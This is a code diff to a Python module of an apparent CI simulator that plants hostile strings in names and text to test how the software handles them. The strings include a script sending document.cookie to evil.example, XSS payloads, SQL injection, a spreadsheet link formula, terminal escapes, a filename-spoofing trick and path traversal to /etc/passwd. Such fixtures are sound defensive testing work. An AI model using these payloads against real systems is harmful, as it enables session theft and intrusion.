@@ -1,5 +1,8 @@
 """What a careless or malicious program might leave behind: nothing here may do any harm."""
 
+from buildkite_simulator.world.chance import pick
+from buildkite_simulator.world.model import Organization
+
 HOSTILE_BODIES: tuple[str, ...] = (
     '<script>fetch("https://evil.example/?" + document.cookie)</script>',
     '<img src=x onerror="alert(1)"><svg onload="alert(2)"/>',
@@ -47,3 +50,21 @@ HOSTILE_TEST_NAMES: tuple[str, ...] = (
     "n" * 20_000,
     "",
 )
+
+HOSTILE_NAMES: tuple[str, ...] = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror="alert(2)">',
+    "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
+    '=HYPERLINK("https://evil.example","x")',
+    "'); DROP TABLE teams; --",
+    "\u202egnp.exe\u2066\u200b\ufeff",
+    "line\nbreak\r\n\ttab",
+    "javascript:alert(3)",
+    "../../../../etc/passwd",
+    "n" * 500,
+)
+
+
+def named(organization: Organization, plain: str) -> str:
+    """Return a name or text, with a hostile one behind it where those were planted."""
+    return f"{plain} {pick(HOSTILE_NAMES, plain)}" if organization.hostile else plain
